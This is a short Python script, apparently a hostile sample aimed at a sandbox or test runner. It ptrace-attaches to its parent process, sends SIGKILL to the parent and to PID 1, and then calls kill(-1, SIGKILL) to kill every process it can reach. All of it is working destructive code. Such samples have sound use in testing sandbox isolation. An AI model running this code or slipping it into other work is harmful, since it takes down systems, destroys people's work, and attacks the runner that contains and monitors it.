"""Signals the trusted runner, every process it may reach, and ptrace-attaches to its parent."""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
results = [f"ptrace: {libc.ptrace(16, os.getppid(), 0, 0)} errno {ctypes.get_errno()}"]  # PTRACE_ATTACH
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
        results.append(f"killed {pid}")
    except OSError as exc:
        results.append(f"{pid}: {exc.strerror}")
os.kill(-1, signal.SIGKILL)
